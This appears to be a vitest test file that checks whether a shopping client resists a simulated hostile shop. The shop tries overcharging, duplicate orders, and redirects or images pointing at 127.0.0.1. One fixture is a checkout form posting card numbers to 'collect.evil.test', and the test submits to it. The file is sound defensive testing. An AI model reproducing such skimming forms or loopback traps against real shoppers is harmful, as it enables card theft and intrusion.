import { get } from 'node:https'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openStrangers, type Strangers } from '../../../test/open-strangers.ts'
import { cardTyped, goToPayment } from '../../../test/shopper.ts'

const shop = 'https://hostile.shop.test'
const total = 2700

let strangers: Strangers
beforeAll(async () => {
  strangers = await openStrangers()
})
afterAll(() => strangers.close())

async function atPayment(handle: string) {
  const shopper = strangers.shopper()
  await goToPayment(shopper, `${shop}/product/${handle}`)
  const card = await strangers.issueCard({ limit: total, merchant: 'hostile.shop.test' })
  return { shopper, card, typed: cardTyped(card) }
}

const attacks = async () =>
  (await strangers.results('hostile')).filter((result) => result.startsWith('attack'))

test.each([
  ['honest', `0/${total}/0`],
  ['instructions', `0/${total}/0`],
  ['charges-more', '0/0/0'],
  ['charges-twice', `0/${total}/0`],
  ['loopback-after-payment', `0/${total}/0`],
])('%s: a card limited to the total is charged %s', async (handle, totals) => {
  const { shopper, card, typed } = await atPayment(handle)
  // The client knows no name for this machine, so it stops there.
  await shopper.submit('/checkout/payment', typed).catch(() => undefined)
  expect(await strangers.totals(card)).toBe(totals)
})

test('the shop does try what it says: with a greater limit more is charged than was shown', async () => {
  const { shopper } = await atPayment('charges-more')
  const card = await strangers.issueCard({ limit: 100_000, merchant: 'hostile.shop.test' })
  await shopper.submit('/checkout/payment', cardTyped(card))
  expect(await strangers.totals(card)).toBe(`0/${total + 2000}/0`)
  expect(await attacks()).toContain('attack asked for more than was shown')
})

test('a second order beside the button is refused at a card with nothing left', async () => {
  const { shopper, card, typed } = await atPayment('submits-twice')
  await shopper.submit('/checkout/payment', typed)
  await shopper.postJson('/checkout/express', typed)
  expect(await strangers.totals(card)).toBe(`0/${total}/0`)
  expect(await strangers.results('hostile')).toContain('charge declined:over_limit')
})

test('a card that is sent to another host is noticed there, and its number is kept nowhere', async () => {
  const { shopper, typed } = await atPayment('sends-form-away')
  expect(shopper.seen.body).toContain('action="https://collect.evil.test/checkout"')
  await shopper.submit('https://collect.evil.test/checkout', typed)
  expect((await attacks()).at(-1)).toBe('attack checkout received a card number')
  const response = await fetch(`${strangers.url}/hostile/log`)
  expect(await response.text()).not.toContain(typed.card_number)
})

test('whoever follows a page to this machine is noticed, by either of its names', async () => {
  const port = strangers.facts.addresses['hostile.shop.test']?.split(':')[1]
  for (const host of ['127.0.0.1', 'localhost']) {
    const status = await new Promise((resolve, reject) => {
      const options = { rejectUnauthorized: false, headers: { host } }
      const asked = get(`https://127.0.0.1:${port}/trap/test`, options, (answer) =>
        resolve(answer.resume().statusCode),
      )
      asked.on('error', reject)
    })
    expect([status, (await attacks()).at(-1)]).toEqual([403, 'attack reached loopback by test'])
  }
  expect(Object.keys(strangers.facts.addresses).filter((name) => !name.endsWith('.test'))).toEqual([])
})

test('a page that leads to this machine says the very address, and nobody has asked it', async () => {
  const shopper = strangers.shopper()
  await expect(shopper.open(`${shop}/product/redirects-to-loopback`)).rejects.toThrow('127.0.0.1')
  expect((await attacks()).some((result) => result.endsWith('redirect'))).toBe(false)
  const { body } = await shopper.open(`${shop}/product/loopback-resources`)
  expect(body).toMatch(/<img src="https:\/\/127\.0\.0\.1:\d+\/trap\/image"/)
})
